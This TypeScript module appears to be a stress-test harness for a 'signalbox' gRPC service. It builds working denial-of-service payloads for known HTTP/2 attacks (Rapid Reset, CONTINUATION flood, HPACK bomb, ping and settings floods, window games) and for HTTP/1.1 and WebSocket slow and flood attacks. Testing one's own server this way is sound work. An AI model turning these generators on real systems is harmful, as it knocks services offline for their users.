import {
  callFields,
  END_HEADERS,
  END_STREAM,
  FrameType,
  field,
  frame,
  indexed,
  keptField,
  number,
  preface,
  settings,
  settingsAck,
} from './http2-frames.ts';

/** What an attacker sends on one connection: first `opening`, then whatever `next` gives, for as long as it is let. */
export interface Attack {
  readonly opening: Uint8Array;
  /** The next bytes, about 16 KiB of them. */
  next(): Uint8Array;
  /** Milliseconds between two writes; 0: as fast as the socket takes them. */
  readonly paceMs: number;
}

const connectPath = '/signalbox.v1.SignalingService/Connect';
const reflectionPath = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const greeting = Buffer.concat([preface, settings(), settingsAck]);
/** Connect's fields, the stream left open. */
const call = callFields(connectPath);
const CANCEL = 8;
const batch = 400;

/** Client streams have odd numbers, each used once. */
function streamNumbers(): () => number {
  let last = -1;
  return () => {
    last += 2;
    return last;
  };
}

function repeated(bytes: Buffer): Pick<Attack, 'next' | 'paceMs'> {
  const many = Buffer.concat(Array.from({ length: Math.ceil(16_384 / bytes.length) }, () => bytes));
  return { next: () => many, paceMs: 0 };
}

function perStream(make: (stream: number) => Buffer[]): Pick<Attack, 'next' | 'paceMs'> {
  const stream = streamNumbers();
  return {
    next: () => Buffer.concat(Array.from({ length: batch }, () => make(stream())).flat()),
    paceMs: 0,
  };
}

/** Opens streams and resets them at once (CVE-2023-44487). */
function rapidReset(): Attack {
  return {
    opening: greeting,
    ...perStream((stream) => [
      frame(FrameType.HEADERS, END_HEADERS, stream, call),
      frame(FrameType.RST_STREAM, 0, stream, number(CANCEL)),
    ]),
  };
}

/** Opens streams and makes the server reset them, by window updates of nothing (CVE-2025-8671). */
function madeYouReset(): Attack {
  return {
    opening: greeting,
    ...perStream((stream) => [
      frame(FrameType.HEADERS, END_HEADERS, stream, call),
      frame(FrameType.WINDOW_UPDATE, 0, stream, number(0)),
    ]),
  };
}

/** Headers that never end (CVE-2024-27316). */
function continuation(): Attack {
  return {
    opening: Buffer.concat([greeting, frame(FrameType.HEADERS, 0, 1, call)]),
    ...repeated(frame(FrameType.CONTINUATION, 0, 1, field('x', 'y'.repeat(16)))),
  };
}

/** Settings, each to be acknowledged (CVE-2019-9515). */
function settingsFlood(): Attack {
  return { opening: greeting, ...repeated(settings()) };
}

/** Pings, each to be answered (CVE-2019-9512). */
function pingFlood(): Attack {
  return { opening: greeting, ...repeated(frame(FrameType.PING, 0, 0, Buffer.alloc(8))) };
}

/** Data without content, on an open stream (CVE-2019-9518). */
function emptyData(): Attack {
  return {
    opening: Buffer.concat([greeting, frame(FrameType.HEADERS, END_HEADERS, 1, call)]),
    ...repeated(frame(FrameType.DATA, 0, 1)),
  };
}

/** Data a byte at a time, of a message that is never whole. */
function dataDribble(): Attack {
  // A message of 256 KiB is announced.
  const announced = frame(FrameType.DATA, 0, 1, Buffer.of(0, 0, 4, 0, 0));
  return {
    opening: Buffer.concat([greeting, frame(FrameType.HEADERS, END_HEADERS, 1, call), announced]),
    ...repeated(frame(FrameType.DATA, 0, 1, Buffer.of(0))),
  };
}

/** Priorities of streams that do not exist (CVE-2019-9513). */
function priority(): Attack {
  const stream = streamNumbers();
  return {
    opening: greeting,
    next: () => {
      const on = number(0);
      const frames = Array.from({ length: 1000 }, () =>
        frame(FrameType.PRIORITY, 0, stream(), Buffer.concat([on, Buffer.of(15)])),
      );
      return Buffer.concat(frames);
    },
    paceMs: 0,
  };
}

/** The connection's window, a byte wider each time. */
function windowUpdate(): Attack {
  return { opening: greeting, ...repeated(frame(FrameType.WINDOW_UPDATE, 0, 0, number(1))) };
}

/** A field of 4,000 bytes, kept once and then named a hundred times a request: 4 MB out of 200 bytes. */
function hpackBomb(): Attack {
  const bomb = Buffer.concat([call, ...Array.from({ length: 1000 }, () => indexed(62))]);
  const stream = streamNumbers();
  const first = Buffer.concat([callFields(connectPath), keptField('x-bomb', 'b'.repeat(4000))]);
  return {
    opening: Buffer.concat([greeting, frame(FrameType.HEADERS, END_HEADERS | END_STREAM, stream(), first)]),
    next: () =>
      Buffer.concat(
        Array.from({ length: 12 }, () => frame(FrameType.HEADERS, END_HEADERS | END_STREAM, stream(), bomb)),
      ),
    paceMs: 0,
  };
}

/** Calls with long answers, and a window that lets none of them out (CVE-2019-9511, CVE-2019-9517). */
function windowGames(): Attack {
  const INITIAL_WINDOW_SIZE = 4;
  // ServerReflectionRequest.file_containing_symbol: an answer of some 20 KB.
  const symbol = Buffer.from('signalbox.v1.RoomService');
  const ask = Buffer.concat([Buffer.of(0x22, symbol.length), symbol]);
  const message = Buffer.concat([Buffer.of(0, 0, 0, 0, ask.length), ask]);
  const fields = callFields(reflectionPath);
  return {
    opening: Buffer.concat([preface, settings({ [INITIAL_WINDOW_SIZE]: 0 }), settingsAck]),
    ...perStream((stream) => [
      frame(FrameType.HEADERS, END_HEADERS, stream, fields),
      frame(FrameType.DATA, END_STREAM, stream, message),
    ]),
    paceMs: 20,
  };
}

/** A request's first lines, and then never the last (Slowloris). */
function slowloris(): Attack {
  return {
    opening: Buffer.from('POST /signalbox.v1.RoomService/GetRoom HTTP/1.1\r\nHost: localhost\r\n'),
    next: () => Buffer.from('x'),
    paceMs: 100,
  };
}

/** Requests over HTTP/1.1, none of whose answers is waited for. */
function pipelining(): Attack {
  const request = Buffer.from('GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n');
  return { opening: request, ...repeated(request) };
}

/** Pings on a WebSocket that has not said Hello. */
function webSocketPings(): Attack {
  const upgrade = [
    'GET /ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n',
    'Sec-WebSocket-Protocol: signalbox.v1.proto\r\n\r\n',
  ];
  return { opening: Buffer.from(upgrade.join('')), ...repeated(Buffer.of(0x89, 0x80, 1, 2, 3, 4)) };
}

/** The same as Slowloris over HTTP/2: a request's headers, a byte at a time. */
function slowHeaders(): Attack {
  const head = frame(FrameType.HEADERS, END_HEADERS, 1, Buffer.alloc(8000));
  let at = 9;
  return {
    opening: Buffer.concat([greeting, head.subarray(0, 9)]),
    next: () => head.subarray(at, ++at),
    paceMs: 100,
  };
}

export const floods = {
  'rapid reset': rapidReset,
  'made you reset': madeYouReset,
  continuation,
  settings: settingsFlood,
  ping: pingFlood,
  'empty data': emptyData,
  'data dribble': dataDribble,
  priority,
  'window update': windowUpdate,
  'hpack bomb': hpackBomb,
  'window games': windowGames,
  pipelining,
  'websocket pings': webSocketPings,
  slowloris,
  'slow headers': slowHeaders,
} as const satisfies Record<string, () => Attack>;

export type FloodName = keyof typeof floods;
